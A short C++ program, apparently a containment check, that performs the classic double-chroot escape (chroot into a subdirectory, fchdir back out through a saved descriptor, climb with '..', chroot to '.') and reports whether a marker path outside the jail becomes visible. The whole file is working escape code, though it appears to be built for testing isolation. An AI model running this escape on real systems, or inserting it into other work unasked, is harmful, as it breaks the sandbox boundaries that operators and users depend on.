// vx-chroot-escape MARKER: the classic double-chroot escape. With
// CAP_SYS_CHROOT, chroot() into a subdirectory while keeping a descriptor
// of the current directory, fchdir() back out, climb with "..", and
// chroot(".") there. Under a plain chroot this reaches the real root.
// Prints "escaped" when MARKER (a path that exists only outside the
// server) is visible afterwards, "contained" when it is not, or the step
// that failed.
#include <cerrno>
#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char *argv[]) {
    if (argc != 2) {
        std::fprintf(stderr, "usage: vx-chroot-escape MARKER\n");
        return 2;
    }
    const char *jail = "/tmp/vx-chroot-escape.d";
    mkdir(jail, 0700);
    int outside = open("/", O_RDONLY | O_DIRECTORY);
    if (outside < 0 || chdir("/") != 0) {
        std::printf("open: %s\n", std::strerror(errno));
        return 1;
    }
    if (chroot(jail) != 0) {
        std::printf("chroot: %s\n", std::strerror(errno));
        return 1;
    }
    if (fchdir(outside) != 0) {
        std::printf("fchdir: %s\n", std::strerror(errno));
        return 1;
    }
    for (int i = 0; i < 256; i++)
        if (chdir("..") != 0)
            break;
    if (chroot(".") != 0) {
        std::printf("chroot .: %s\n", std::strerror(errno));
        return 1;
    }
    struct stat st;
    std::printf("%s\n", stat(argv[1], &st) == 0 ? "escaped" : "contained");
    return 0;
}
